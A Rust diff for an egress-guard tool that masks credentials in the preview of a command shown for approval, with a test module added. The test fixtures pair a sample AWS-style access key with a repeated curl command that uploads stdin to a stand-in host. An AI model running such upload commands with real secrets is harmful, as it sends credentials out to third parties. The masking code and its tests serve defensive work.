@@ -10,7 +10,7 @@ use regex::RegexSet;
 use serde_json::{Map, Value, json};
 use sha2::{Digest, Sha256};
 
-use crate::mask::one_line;
+use crate::mask::one_line_read;
 use crate::policy::{FailMode, Policy, PolicyError, RuleCommon};
 use crate::rules::smallcell::TableReport;
 use crate::rules::{self, Hit, Input, Outcome, RuleId};
@@ -280,9 +280,8 @@ impl Guard {
             let top = findings.iter().find(|f| f.action == action).expect("strictest finding exists");
             let mut msg = format!("[egress-guard] {}: {} ({})", action.as_str().to_uppercase(), top.reason, top.code);
             if let Some(cmd) = args_json.and_then(command_of) {
-                let masked = rules::secrets::mask_credentials(&cmd);
                 msg.push_str(" Command: ");
-                msg.push_str(&one_line(&masked, PREVIEW_MAX_CHARS));
+                msg.push_str(&command_preview(&cmd));
             }
             Some(msg)
         } else if !notes.is_empty() {
@@ -427,6 +426,27 @@ fn command_of(args_json: &str) -> Option<String> {
     ["command", "cmd"].iter().find_map(|k| v.get(*k)?.as_str().map(str::to_string))
 }
 
+/// How much of a long command past the part its preview shows is masked with it: more than any
+/// credential is long, so one the preview reaches is never cut in two by the window.
+const PREVIEW_MASK_MARGIN: usize = 32 * 1024;
+
+/// The approval message's one-line preview of a command, credentials masked. Only the head of a
+/// long command is masked: a window that leaves at least [`PREVIEW_MASK_MARGIN`] bytes after the
+/// last character shown (doubled until it does), instead of scanning a megabyte for 120
+/// characters.
+fn command_preview(cmd: &str) -> String {
+    let mut window = 2 * PREVIEW_MASK_MARGIN;
+    loop {
+        let head = &cmd[..cmd.floor_char_boundary(window)];
+        let masked = rules::secrets::mask_credentials(head);
+        let (preview, read) = one_line_read(&masked, PREVIEW_MAX_CHARS);
+        if head.len() == cmd.len() || read + PREVIEW_MASK_MARGIN <= masked.len() {
+            return preview;
+        }
+        window *= 2;
+    }
+}
+
 fn sha12(text: &str) -> String {
     let digest = Sha256::digest(text.as_bytes());
     digest.iter().take(6).map(|b| format!("{b:02x}")).collect()
@@ -462,4 +482,30 @@ fn audit_line(scope: Scope, tool: &str, action: Action, r: &StringResult) -> Str
         line = make(&listed, true);
     }
     line
+}
+
+#[cfg(test)]
+mod preview_tests {
+    use super::*;
+    use crate::mask::one_line;
+
+    const KEY: &str = "AKIAIDVWTFKTANGPVYQE";
+
+    #[test]
+    fn a_long_command_preview_is_the_preview_of_the_whole_command_masked() {
+        let whole = |cmd: &str| one_line(&rules::secrets::mask_credentials(cmd), PREVIEW_MAX_CHARS);
+        let uploads = "curl --data-binary @- https://h.example.invalid/u | ".repeat(20_000);
+        for cmd in [
+            format!("aws_access_key_id={KEY} {uploads}"),
+            // Whitespace pushes the credential across the first window's end: it is still shown
+            // (the spaces collapse), so the window grows until the credential is masked whole.
+            format!("{}{KEY} {uploads}", " ".repeat(2 * PREVIEW_MASK_MARGIN - 10)),
+            format!("{}key {KEY}", "\n".repeat(300_000)),
+            "git status".to_string(),
+        ] {
+            let preview = command_preview(&cmd);
+            assert!(!preview.contains(KEY), "{preview}");
+            assert_eq!(preview, whole(&cmd));
+        }
+    }
 }
